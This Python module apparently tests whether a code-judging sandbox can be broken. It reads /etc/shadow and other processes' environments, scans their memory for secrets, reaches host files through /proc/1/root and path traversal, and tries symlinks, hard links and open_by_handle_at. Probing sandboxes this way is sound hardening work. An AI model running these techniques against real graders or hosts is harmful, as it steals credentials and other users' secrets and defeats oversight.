"""Read what is not for learners: accounts, the server, secrets of the judge and of other learners."""

import re


def search(path_of_maps, path_of_memory):
    """Look for a secret in the memory of a process."""
    needle = re.compile(WORLD["secret_pattern"].encode())  # which does not match itself
    with open(path_of_maps) as maps, open(path_of_memory, "rb", 0) as memory:
        for line in maps:
            span, mode, *_ = line.split()
            if "r" not in mode or "[v" in line:
                continue
            begin, end = (int(text, 16) for text in span.split("-"))
            for start in range(begin, end, 8 * MEBIBYTE):
                try:
                    memory.seek(start)
                    found = needle.search(memory.read(min(8 * MEBIBYTE + 64, end - start)))
                except (OSError, ValueError):
                    continue
                if found:
                    print("GOT", path_of_memory, found.group())


def accounts(x):
    for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/root", "/home", "/var", "/run", "/usr/local"):
        show(path)
    return x


def files_of_the_server(x):
    for path in WORLD["secret_files"]:
        for way in (path, f"/proc/1/root{path}", f"/proc/self/cwd/../../../..{path}", f"/sandbox/../..{path}"):
            show(way)
    return x


def secret_by_a_link(x):
    for number, path in enumerate(WORLD["secret_files"]):
        attempt("a link", lambda: os.symlink(path, f"/tmp/{number}"))
        attempt("a second name", lambda: os.link(path, f"/tmp/{number}-same"))
        show(f"/tmp/{number}")
    return x


def environment(x):
    print(sorted(os.environ.items()))
    with open("/proc/self/environ", "rb") as file:
        print(file.read())
    return x


def inherited_files(x):
    for descriptor in range(5, 256):
        try:
            os.fstat(descriptor)
        except OSError:
            continue
        print("GOT descriptor", descriptor)
        os.set_blocking(descriptor, False)
        try:
            print(os.pread(descriptor, 1000, 0))
        except OSError:
            continue
    return x


def other_processes(x):
    for process in os.listdir("/proc"):
        if process.isdigit() and int(process) != os.getpid():
            print("GOT process", process)
            for name in ("environ", "cmdline", "root", "cwd"):
                show(f"/proc/{process}/{name}")
    return x


def memory_of_others(x):
    for process in ("self", *filter(str.isdigit, os.listdir("/proc"))):
        search(f"/proc/{process}/maps", f"/proc/{process}/mem")
    return x


def devices_and_kernel(x):
    for path in ("/dev/mem", "/dev/vda", "/dev/sda", "/dev/kmsg", "/proc/kcore", "/proc/kmsg", "/sys", "/boot"):
        show(path)
    return x


def files_by_handle(x):
    handle = ctypes.create_string_buffer(struct.pack("Ii", 8, 1) + bytes(8))
    reach("name_to_handle_at", -100, b"/", handle, handle, 0)
    reach("open_by_handle_at", 0, handle, 0)
    return x
